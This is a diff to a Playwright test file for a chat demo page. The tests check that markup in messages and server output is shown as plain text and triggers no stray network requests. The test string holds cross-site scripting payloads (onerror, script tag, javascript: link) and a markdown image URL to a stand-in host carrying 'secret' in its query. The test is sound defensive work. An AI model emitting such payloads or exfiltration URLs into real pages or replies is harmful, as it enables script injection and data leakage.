@@ -1,29 +1,40 @@
 // Text is text. Whoever wrote it, it is shown and never run.
 
+import type { Page } from "@playwright/test";
+
 import { expect, test } from "./demo_test.ts";
 import { event, ScriptedServer, token, turnEvent } from "./scripted_server.ts";
 
-const HOSTILE = '<img src=x onerror="alert(1)"><script>alert(2)</script> [a](javascript:alert(3))';
+const HOSTILE =
+  '<img src=x onerror="alert(1)"><script>alert(2)</script> [a](javascript:alert(3)) ' +
+  "![](http://canary.test/?said=secret) <a href=http://canary.test>http://canary.test</a>";
+
+/** Collects what the page fetches besides what it is made of. Nothing in a text may make it do so. */
+function strays(page: Page): string[] {
+  const found: string[] = [];
+  page.on("request", (request) => {
+    const { hostname, pathname } = new URL(request.url());
+    const isOurs = pathname.startsWith("/demo/") || pathname.startsWith("/v1/");
+    if (!isOurs || hostname === "canary.test") found.push(request.url());
+  });
+  return found;
+}
 
 test("markup in a message is shown as it was written", async ({ demo, page }) => {
-  // Nothing in somebody's text may make the page fetch anything.
-  const strays: string[] = [];
-  page.on("request", (request) => {
-    const { pathname } = new URL(request.url());
-    if (!pathname.startsWith("/demo/") && !pathname.startsWith("/v1/")) strays.push(request.url());
-  });
+  const fetched = strays(page);
   await demo.open();
   await demo.connect();
   const turn = await demo.ask(HOSTILE);
   await expect(turn.block.locator(".said .text")).toHaveText(HOSTILE);
   await expect(demo.log.locator("img, script, a, iframe")).toHaveCount(0);
   await expect(demo.events.locator("img, script, a, iframe")).toHaveCount(0);
-  expect(strays).toEqual([]);
+  expect(fetched).toEqual([]);
 });
 
 // Goal: the same for what the server says. Method: a server of our own making says it, in every
 // place that the page shows.
 test("markup from a model, a tool, a router or a summary is shown as it was written", async ({ demo, page }) => {
+  const fetched = strays(page);
   const server = await ScriptedServer.start(page);
   await demo.open();
   await demo.connectButton.click();
@@ -53,6 +64,7 @@ test("markup from a model, a tool, a router or a summary is shown as it was writ
   // All of them but the token, which is not asked for.
   await expect(demo.events.locator("li")).toHaveCount(13);
   await expect(demo.events.locator("img, script, a, iframe")).toHaveCount(0);
+  expect(fetched).toEqual([]);
 });
 
 test("the page is served with a policy that forbids what is inline", async ({ page }) => {
